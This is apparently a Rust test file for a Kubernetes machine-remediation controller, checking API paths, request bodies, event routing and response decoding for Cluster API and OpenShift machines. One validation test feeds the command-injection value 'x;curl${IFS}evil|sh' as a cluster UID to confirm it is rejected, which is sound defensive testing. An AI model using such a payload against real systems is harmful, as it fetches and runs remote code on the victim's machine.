//! Sources and effects of Machines, as they go over the wire.

use http::{Method, Response};
use resus_core::effect::{Creation, Effect, Owner, Target};
use resus_core::event::Event;
use resus_core::facts::{Body, Kind, ObjectKey, Rival, Source, Version};
use resus_core::input::{Answer, Fact, Gone, Input};
use resus_core::mhc::facts::{ClusterKey, Dialect, Flavour, MACHINE_CHECK_KIND, MACHINE_KIND, Place};
use resus_core::time::Wall;
use resus_k8s::feed::{self, Line};
use resus_k8s::names::Places;
use resus_k8s::observe::{self, Keep, machine_of_node};
use resus_k8s::{answer, encode};
use serde_json::{Value, json};

fn cluster() -> ClusterKey {
    ClusterKey { namespace: "n".into(), name: "c".into() }
}

fn place(dialect: Dialect) -> Place {
    Place { flavour: dialect.flavour(), namespace: "n".into(), name: "m".into() }
}

fn target(dialect: Dialect) -> Target {
    Target { place: place(dialect), dialect, uid: "u".into(), version: Version("7".into()) }
}

fn sent(effect: &Effect) -> (String, String, Value) {
    let request = encode::encode(effect, &Places::new("resus")).expect("it can be sent");
    let body = serde_json::from_slice(request.body()).unwrap_or_default();
    (request.method().to_string(), request.uri().path().to_owned(), body)
}

#[test]
fn every_source_has_its_path() {
    for (source, uri) in [
        (Source::MachineChecks(Dialect::V1beta2), "/apis/cluster.x-k8s.io/v1beta2/machinehealthchecks?limit=100"),
        (Source::Machines(Dialect::OpenShift), "/apis/machine.openshift.io/v1beta1/machines?limit=100"),
        (Source::Machines(Dialect::V1alpha3), "/apis/cluster.x-k8s.io/v1alpha3/machines?limit=100"),
        (Source::Clusters(Dialect::V1beta1), "/apis/cluster.x-k8s.io/v1beta1/clusters?limit=100"),
        (Source::Access(cluster()), "/api/v1/namespaces/n/secrets?limit=100&fieldSelector=metadata.name%3Dc-kubeconfig"),
        (Source::RemoteNodes(cluster()), "/api/v1/nodes?limit=100"),
        (Source::RemoteEtcd(cluster()), "/api/v1/namespaces/kube-system/pods?limit=100&labelSelector=component%3Detcd"),
        (
            Source::Rivals(Rival::Medik8s),
            "/apis/coordination.k8s.io/v1/leases?limit=100&fieldSelector=metadata.name%3De1f13584.medik8s.io",
        ),
        (
            Source::Rivals(Rival::ClusterApi),
            "/apis/coordination.k8s.io/v1/leases?limit=100&fieldSelector=metadata.name%3Dcontroller-leader-election-capi",
        ),
        (
            Source::Rivals(Rival::OpenShift),
            "/apis/coordination.k8s.io/v1/leases?limit=100&fieldSelector=metadata.name%3Dcluster-api-provider-healthcheck-leader",
        ),
    ] {
        let request = feed::list(&source, None, &Places::new("resus"), None, 100).unwrap();
        assert_eq!(request.uri().to_string(), uri, "{source}");
    }
}

#[test]
fn a_watch_tells_what_comes_and_what_goes() {
    let object =
        json!({"metadata": {"name": "c-kubeconfig", "namespace": "n", "resourceVersion": "9"}, "spec": {"nodeName": "node-1"}});
    let line = |source: &Source, kind: &str| {
        let line = json!({"type": kind, "object": object}).to_string();
        let Ok(Line::Input(input, version)) = feed::read_line(source, &Keep::default(), line.as_bytes()) else {
            panic!("{line}")
        };
        assert_eq!(version.as_deref(), Some("9"), "{source}");
        input
    };
    let named = |flavour: Flavour| Place { flavour, namespace: "n".into(), name: "c-kubeconfig".into() };
    let key = ClusterKey { namespace: "n".into(), name: "c-kubeconfig".into() };
    for (source, gone) in [
        (Source::MachineChecks(Dialect::V1beta2), Gone::MachineCheck(Dialect::V1beta2, named(Flavour::ClusterApi))),
        (Source::Machines(Dialect::OpenShift), Gone::Machine(Dialect::OpenShift, named(Flavour::OpenShift))),
        (Source::Clusters(Dialect::V1beta1), Gone::Cluster(Dialect::V1beta1, key)),
        (Source::Access(cluster()), Gone::Access(cluster())),
        (Source::RemoteNodes(cluster()), Gone::RemoteNode(cluster(), "c-kubeconfig".into())),
        (Source::RemoteEtcd(cluster()), Gone::RemoteEtcd { cluster: cluster(), pod: "n/c-kubeconfig".into() }),
        (Source::Rivals(Rival::OpenShift), Gone::Rival { rival: Rival::OpenShift, name: "n/c-kubeconfig".into() }),
    ] {
        let Input::Seen(fact) = line(&source, "MODIFIED") else { panic!("{source}") };
        assert_eq!(fact.source().as_ref(), Some(&source));
        assert_eq!(line(&source, "DELETED"), Input::Gone(gone));
        assert_eq!(line(&source, "BOOKMARK"), Input::Heard(source.clone()));
    }
    let Input::Seen(Fact::RemoteEtcd { pod, says, .. }) = line(&Source::RemoteEtcd(cluster()), "ADDED") else { panic!() };
    assert_eq!((&*pod, says), ("n/c-kubeconfig", None), "no kubelet shows it");
}

#[test]
fn every_write_names_what_it_was_decided_on() {
    let machine = "/apis/machine.openshift.io/v1beta1/namespaces/n/machines/m";
    let effect = |on| Effect::PowerCycle { machine: target(Dialect::OpenShift), on, tells: Vec::new() };
    for (on, value) in [(true, json!("")), (false, Value::Null)] {
        let (method, path, body) = sent(&effect(on));
        assert_eq!((method.as_str(), path.as_str()), ("PATCH", machine));
        let annotations = json!({"host.metal3.io/external-remediation": value});
        assert_eq!(body, json!({"metadata": {"resourceVersion": "7", "annotations": annotations}}));
    }
    let (method, path, body) = sent(&Effect::DeleteMachine { machine: target(Dialect::OpenShift), tells: Vec::new() });
    assert_eq!((method.as_str(), path.as_str()), ("DELETE", machine));
    assert_eq!(body["preconditions"], json!({"uid": "u", "resourceVersion": "7"}));

    let look = Effect::LookMachine { place: place(Dialect::V1beta2), dialect: Dialect::V1beta2 };
    let (method, path, _) = sent(&look);
    assert_eq!((method.as_str(), path.as_str()), ("GET", "/apis/cluster.x-k8s.io/v1beta2/namespaces/n/machines/m"));
    let (_, path, _) = sent(&Effect::Look { cluster: Some(cluster()), node: "node-1".into() });
    assert_eq!(path, "/api/v1/nodes/node-1");
}

fn creation(dialect: Dialect, cluster: Option<&str>) -> Effect {
    let kind = Kind { api_version: "infrastructure.cluster.x-k8s.io/v1beta1".into(), kind: "Metal3Remediation".into() };
    Effect::Create(Creation {
        key: ObjectKey { kind, namespace: Some("n".into()), name: "m".into() },
        plural: "metal3remediations".into(),
        body: Body {
            spec: r#"{"strategy":{"type":"Reboot"}}"#.into(),
            labels: [("a".into(), "b".into())].into(),
            annotations: [("c".into(), "d".into()), ("cluster.x-k8s.io/cloned-from-name".into(), "wrong".into())].into(),
        },
        template: "t".into(),
        owner: Owner::Machine {
            dialect,
            name: "m".into(),
            uid: "u".into(),
            cluster: cluster.map(Into::into),
            check_uid: "check".into(),
            tells: Vec::new(),
        },
    })
}

#[test]
fn a_remediation_looks_as_its_controller_expects_it() {
    let (method, path, body) = sent(&creation(Dialect::V1beta2, Some("c")));
    assert_eq!(method, Method::POST.as_str());
    assert_eq!(path, "/apis/infrastructure.cluster.x-k8s.io/v1beta1/namespaces/n/metal3remediations");
    let metadata = json!({
        "name": "m",
        "namespace": "n",
        "labels": {"a": "b", "cluster.x-k8s.io/cluster-name": "c"},
        "annotations": {
            "c": "d",
            "cluster.x-k8s.io/cloned-from-name": "t",
            "cluster.x-k8s.io/cloned-from-groupkind": "Metal3RemediationTemplate.infrastructure.cluster.x-k8s.io",
            "resus.dev/machine-health-check": "check",
        },
        "ownerReferences": [{"apiVersion": "cluster.x-k8s.io/v1beta2", "kind": "Machine", "name": "m", "uid": "u"}],
    });
    assert_eq!(
        body,
        json!({
            "apiVersion": "infrastructure.cluster.x-k8s.io/v1beta1", "kind": "Metal3Remediation", "metadata": metadata,
            "spec": {"strategy": {"type": "Reboot"}},
        })
    );
    let (_, _, body) = sent(&creation(Dialect::OpenShift, None));
    assert_eq!(body["metadata"]["labels"], json!({"a": "b"}));
    assert_eq!(body["metadata"]["annotations"]["machine.openshift.io/cloned-from-name"], "t");
    assert_eq!(body["metadata"]["ownerReferences"][0]["apiVersion"], "machine.openshift.io/v1beta1");
}

#[test]
fn events_go_where_their_object_is() {
    let event = |about: ObjectKey| {
        let event = Event {
            name: "e".into(),
            about,
            about_uid: "u".into(),
            warning: true,
            reason: "RemediationRestricted",
            message: "too many".into(),
            at: Wall(1_800_000_000_000),
            sums_up: false,
        };
        let (_, path, body) = sent(&Effect::Emit(event));
        (path, body["involvedObject"].clone(), body["source"]["component"].clone())
    };
    let about = |kind: &str| ObjectKey { kind: Dialect::V1beta1.kind(kind), namespace: Some("n".into()), name: "m".into() };
    for kind in [MACHINE_KIND, MACHINE_CHECK_KIND] {
        let (path, involved, source) = event(about(kind));
        assert_eq!(path, "/api/v1/namespaces/n/events");
        assert_eq!(
            involved,
            json!({"apiVersion": "cluster.x-k8s.io/v1beta1", "kind": kind, "namespace": "n", "name": "m", "uid": "u"})
        );
        assert_eq!(source, "machinehealthcheck-controller");
    }
    let kind = Kind { api_version: "remediation.medik8s.io/v1alpha1".into(), kind: "NodeHealthCheck".into() };
    let (path, involved, source) = event(ObjectKey { kind, namespace: None, name: "c".into() });
    assert_eq!((path.as_str(), source), ("/api/v1/namespaces/default/events", json!("NodeHealthCheck")));
    assert_eq!(involved.get("namespace"), None);
}

#[test]
fn answers_show_what_became_of_it() {
    let machine = json!({"metadata": {"name": "m", "namespace": "n", "uid": "u", "resourceVersion": "8"}});
    let answer =
        |effect: &Effect| match answer::decode(effect, &Keep::default(), &Response::new(machine.to_string().into_bytes())) {
            Input::Answered(_, Answer::Done(fact)) => fact,
            other => panic!("{other:?}"),
        };
    let dialect = Dialect::OpenShift;
    let looked = answer(&Effect::LookMachine { place: place(dialect), dialect });
    assert!(matches!(looked, Some(Fact::Machine(machine)) if machine.place == place(dialect) && &*machine.version.0 == "8"));
    let cycled = answer(&Effect::PowerCycle { machine: target(dialect), on: true, tells: Vec::new() });
    assert!(matches!(cycled, Some(Fact::Machine(_))));
    assert_eq!(answer(&Effect::DeleteMachine { machine: target(dialect), tells: Vec::new() }), None);
    let found = answer(&Effect::FindMachine { node: "node-1".into(), namespace: "n".into(), name: "m".into() });
    assert_eq!(found, Some(Fact::MachineOfNode { uid: "u".into(), node: None }));
    for (status, named) in [
        (json!({"nodeRef": {"name": "node-1"}}), Some("node-1")),
        (json!({"nodeRef": {"name": "no name"}}), None),
        (json!({"nodeRef": null}), None),
        (Value::Null, None),
    ] {
        let machine = json!({"metadata": {"name": "m", "uid": "u"}, "status": status});
        let node = named.map(Into::into);
        assert_eq!(machine_of_node(machine.to_string().as_bytes()).unwrap(), Fact::MachineOfNode { uid: "u".into(), node });
    }
    let looked = answer(&Effect::Look { cluster: Some(cluster()), node: "m".into() });
    assert!(matches!(looked, Some(Fact::Node(_))));
}

/// It is shown in a command that people copy.
#[test]
fn who_a_cluster_is_must_look_like_a_uid() {
    let effect = Effect::Identify { cluster: cluster() };
    for (uid, is_one) in
        [("6f0c9a4e-3b1d-4c9e-8a55-0d2c7f1e9b10", true), ("x;curl${IFS}evil|sh", false), ("", false), ("a b", false)]
    {
        let body = json!({"metadata": {"name": "kube-system", "uid": uid}}).to_string();
        let answer = answer::decode(&effect, &Keep::default(), &Response::new(body.into_bytes()));
        assert_eq!(matches!(answer, Input::Answered(_, Answer::Done(Some(Fact::Identity { .. })))), is_one, "{uid}: {answer:?}");
    }
}

/// To look through thousands of them at each change would keep us busy.
#[test]
fn a_machine_with_too_many_conditions_cannot_be_read() {
    for (many, is_read) in [(100, true), (101, false)] {
        let conditions: Vec<Value> = (0..many).map(|n| json!({"type": format!("Kind{n}"), "status": "True"})).collect();
        let machine = json!({"metadata": {"name": "m", "namespace": "n", "uid": "u"}, "status": {"conditions": conditions}});
        let read = observe::machine(machine.to_string().as_bytes(), Dialect::V1beta2);
        assert_eq!(read.is_ok(), is_read, "{many}: {:?}", read.err());
    }
}
